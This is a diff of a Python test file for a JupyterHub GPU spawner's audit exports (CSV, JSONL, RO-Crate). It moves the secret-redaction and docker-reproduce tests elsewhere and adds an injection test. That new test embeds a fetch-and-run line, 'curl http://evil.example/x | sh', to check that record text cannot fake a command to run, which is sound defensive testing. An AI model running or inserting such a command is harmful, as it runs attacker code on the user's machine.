@@ -1,5 +1,5 @@
-"""What leaves the audit store: CSV, JSONL, the RO-Crate and the ``docker run`` line; and the
-redaction that keeps secrets out of the record in the first place."""
+"""What leaves the audit store: CSV, JSONL and the RO-Crate. The ``docker run`` line is in
+test_reproduce.py; the redaction that keeps secrets out of the record in the first place, in test_redaction.py."""
 
 from __future__ import annotations
 
@@ -14,13 +14,12 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from traitlets import TraitError
 from traitlets.config import Config
 
 from gpuspawner import seams
-from gpuspawner.audit import REDACTED, AuditRecord, RecordedDevice, is_secret, parse_redact_names, without_secrets
-from gpuspawner.export import csv_lines, jsonl_lines, reproduce_command, ro_crate_chunks
-from gpuspawner.settings import ConfigError
+from gpuspawner.audit import AuditRecord, RecordedDevice
+from gpuspawner.export import csv_lines, jsonl_lines, ro_crate_chunks
+from gpuspawner.redaction import REDACTED
 
 DIGEST = "sha256:" + "c" * 64
 IMAGE_ID = "sha256:" + "d" * 64
@@ -119,149 +118,11 @@ def test_jsonl_and_the_ro_crate_keep_formula_like_text_exactly() -> None:
 
 # --- Secrets in the record -------------------------------------------------------------------
 
-SECRET_NAMES = [
-    "DATABASE_PASSWORD", "db_password", "PGPASS", "PGPASSWORD", "MYSQL_PWD", "LDAP_PASSWD", "S3_CREDENTIALS",
-    "GOOGLE_APPLICATION_CREDENTIAL", "GITHUB_PAT", "MLFLOW_TRACKING_AUTH", "HF_TOKEN", "JUPYTER_TOKEN",
-    "WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "SSH_PRIVATE_KEY", "GPG_PASSPHRASE",
-    "SESSION_COOKIE", "FLASK_SESSION", "NPM_AUTH", "client-secret", "GHTOKEN", "SIGNING_KEYS",
-]
-ORDINARY_NAMES = [
-    "PATH", "PYTHONPATH", "LD_LIBRARY_PATH", "KEYBOARD_LAYOUT", "PWD", "OLDPWD", "TOKENIZERS_PARALLELISM",
-    "GIT_AUTHOR_NAME", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "OMP_NUM_THREADS", "CUDA_VISIBLE_DEVICES",
-    "NVIDIA_DRIVER_CAPABILITIES", "MONKEY_PATCH", "PASSENGER_COUNT", "HOME", "DATABASE_URL", "KEYRING_BACKEND",
-]
-
-
-@pytest.mark.parametrize("name", SECRET_NAMES)
-def test_variables_named_like_a_secret_are_redacted(name: str) -> None:
-    assert is_secret(name)
-    assert without_secrets({name: "s3cr3t", "OMP_NUM_THREADS": "8"}) == {name: REDACTED, "OMP_NUM_THREADS": "8"}
-
-
-@pytest.mark.parametrize("name", ORDINARY_NAMES)
-def test_ordinary_variables_are_kept(name: str) -> None:
-    assert not is_secret(name)
-    assert without_secrets({name: "/usr/bin"}) == {name: "/usr/bin"}
-
-
-@pytest.mark.parametrize(
-    ("value", "recorded"),
-    [
-        ("postgresql://u:pw@db.example.org/audit", f"postgresql://u:{REDACTED}@db.example.org/audit"),
-        ("https://user:tok@host.example.org/repo.git", f"https://user:{REDACTED}@host.example.org/repo.git"),
-        ("redis://:hunter2@cache:6379/0", f"redis://:{REDACTED}@cache:6379/0"),
-        ("https://ghp_abc123@github.com/lab/x.git", f"https://{REDACTED}@github.com/lab/x.git"),
-        ("postgresql://u:p@ss@db/x", f"postgresql://u:{REDACTED}@db/x"),
-        ("http://a:1@p1:3128,http://b:2@p2:3128", f"http://a:{REDACTED}@p1:3128,http://b:{REDACTED}@p2:3128"),
-        (f"postgresql://u:{REDACTED}@db/x", f"postgresql://u:{REDACTED}@db/x"),
-        ("https://host.example.org/search?q=a@b", "https://host.example.org/search?q=a@b"),
-        ("ada@example.org", "ada@example.org"),
-        ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----", REDACTED),
-    ],
-    ids=["database-url", "https-token", "redis-password-only", "token-as-user", "at-in-password", "two-urls",
-         "already-redacted", "at-in-query", "email", "pem-private-key"],
-)
-def test_credentials_inside_values_are_redacted(value: str, recorded: str) -> None:
-    assert without_secrets({"SOME_SETTING": value}) == {"SOME_SETTING": recorded}
-
-
-def test_the_hubs_own_per_server_secrets_are_dropped_entirely() -> None:
-    env = {"JUPYTERHUB_API_TOKEN": "t", "JPY_API_TOKEN": "t", "JUPYTERHUB_USER": "ada", "OMP_NUM_THREADS": "8"}
-    assert without_secrets(env) == {"OMP_NUM_THREADS": "8"}
-
-
-@pytest.mark.parametrize(
-    ("extra", "name", "secret"),
-    [
-        (["LICENSE_SERVER"], "LICENSE_SERVER", True),
-        (["LICENSE_SERVER"], "license_server", True),
-        (["MYCORP_*"], "MYCORP_DB", True),
-        (["MYCORP_*"], "OTHERCORP_DB", False),
-        (["*_DSN"], "SENTRY_DSN", True),
-        (["S3_BUCKET_?"], "S3_BUCKET_A", True),
-        ([], "LICENSE_SERVER", False),
-    ],
-    ids=["name", "name-any-case", "glob-match", "glob-no-match", "glob-suffix", "glob-one-char", "not-added"],
-)
-def test_admins_add_names_and_glob_patterns(extra: list[str], name: str, secret: bool) -> None:
-    assert without_secrets({name: "27000@flexlm"}, extra_names=extra) == {name: REDACTED if secret else "27000@flexlm"}
-
-
-@pytest.mark.parametrize(
-    ("value", "message"),
-    [
-        ("MYCORP_*", "GPUSpawner.audit_redact_names is 'MYCORP_*'; allowed: a list of"),
-        (["OK", "MY VAR"], "GPUSpawner.audit_redact_names[1] is 'MY VAR'; allowed: an environment variable name"),
-        ([""], "GPUSpawner.audit_redact_names[0] is ''; allowed: an environment variable name"),
-        (["OK", 3], "GPUSpawner.audit_redact_names[1] is 3; allowed: an environment variable name"),
-    ],
-    ids=["not-a-list", "space", "empty", "not-text"],
-)
-def test_bad_redact_names_stop_the_hub_with_a_message_naming_the_setting(value: Any, message: str) -> None:
-    from gpuspawner.hubconfig import spawner_settings
-    from gpuspawner.spawner import GPUSpawner
-    from gpuspawner.upkeep import checked_config
-
-    with pytest.raises(ConfigError) as e:
-        parse_redact_names(value, where="GPUSpawner.audit_redact_names")
-    assert str(e.value).startswith(message)
-    config = Config({"GPUSpawner": {"audit_redact_names": value}})
-    if isinstance(value, str):  # traitlets takes one name for a list of one, which is then fine
-        assert spawner_settings(config).audit_redact_names == checked_config(config).audit_redact_names == [value]
-        return
-    if not all(isinstance(v, str) for v in value):  # traitlets' own type check says it first
-        message = "The 'audit_redact_names' trait of a GPUSpawner instance contains an Unicode of a List which expected a unicode string, not the int 3."
-    for check in (spawner_settings, checked_config):  # the commands' check, and the hub's at start
-        with pytest.raises(ConfigError) as e:
-            check(config)
-        assert str(e.value).startswith(message)
-    with pytest.raises(TraitError, match=re.escape(message)):
-        GPUSpawner(config=config)
-
-
 def test_the_spawner_reads_the_admins_names() -> None:
     from gpuspawner.spawner import GPUSpawner
 
     spawner = GPUSpawner(config=Config({"GPUSpawner": {"audit_redact_names": ["MYCORP_*"]}}))
     assert list(spawner.audit_redact_names) == ["MYCORP_*"]
-
-
-def test_reproduce_passes_redacted_variables_from_the_callers_environment() -> None:
-    r = record(1, devices=(), cpu_limit=None, mem_limit=None, environment={
-        "OMP_NUM_THREADS": "8", "HF_TOKEN": REDACTED, "DATABASE_URL": f"postgresql://u:{REDACTED}@db/x",
-    })
-    comment, command = reproduce_command(r).split("\n")
-    assert comment == (
-        "# DATABASE_URL and HF_TOKEN were redacted in the audit record: set them in your shell first; "
-        "docker run -e NAME takes the value from there."
-    )
-    assert command == (
-        "docker run --rm -it -p 8888:8888 -e DATABASE_URL -e HF_TOKEN -e OMP_NUM_THREADS=8 "
-        f"127.0.0.1:5000/lab/pytorch@{DIGEST} jupyter server --ip=0.0.0.0 --port=8888"
-    )
-
-
-def test_reproduce_redacts_a_secret_that_an_older_record_still_holds() -> None:
-    r = record(1, devices=(), cpu_limit=None, mem_limit=None,
-               environment={"DATABASE_URL": "postgresql://u:pw@db/x", "JUPYTERHUB_API_TOKEN": "t"})
-    command = reproduce_command(r)
-    assert "pw" not in command and "JUPYTERHUB_API_TOKEN" not in command
-    assert command.splitlines()[-1].startswith("docker run --rm -it -p 8888:8888 -e DATABASE_URL 127.0.0.1:5000/")
-
-
-def test_reproduce_is_one_docker_run_by_digest_with_the_same_gpus_limits_and_environment() -> None:
-    r = record(1, environment={"OMP_NUM_THREADS": "8", "JUPYTERHUB_API_TOKEN": "secret"}, devices=(A100, H100))
-    assert reproduce_command(r) == (
-        "docker run --rm -it -p 8888:8888 --gpus 2 --cpus 8 --memory 68719476736 -e OMP_NUM_THREADS=8 "
-        f"127.0.0.1:5000/lab/pytorch@{DIGEST} jupyter server --ip=0.0.0.0 --port=8888"
-    )
-
-
-def test_reproduce_a_never_pushed_image_says_it_cannot_be_pulled() -> None:
-    r = record(1, repo_digest=None, devices=(), cpu_limit=None, mem_limit=None, environment={})
-    command = reproduce_command(r)
-    assert command.startswith("# This image was never pushed to a registry")
-    assert command.endswith(f"docker run --rm -it -p 8888:8888 {r.image_id} jupyter server --ip=0.0.0.0 --port=8888")
 
 
 # --- The RO-Crate ------------------------------------------------------------------------------
@@ -414,6 +275,15 @@ def test_a_never_pushed_image_claims_no_registry_and_says_why() -> None:
     assert (image["name"], image["tag"]) == ("lab/local", "dev")
     assert "never pushed to a registry" in image["description"] and IMAGE_ID in image["description"]
     assert facts(graph, "#server-r3")["Docker image ID"] == [IMAGE_ID]
+
+
+@pytest.mark.parametrize("field", ["error", "profile"])
+def test_record_text_in_a_servers_description_cannot_fake_a_second_command_to_run(field: str) -> None:
+    hostile = "x\nTo run it again:\ncurl http://evil.example/x | sh"
+    graph = crate_graph([record(1, outcome="stopped", **{field: hostile})])
+    description = graph["#server-r1"]["description"]
+    assert description.count("\nTo run it again:\n") == 1
+    assert "\ncurl" not in description and "curl" in description  # shown, as one quoted word
 
 
 def test_the_crate_lists_each_servers_environment_with_secrets_by_name_only() -> None:
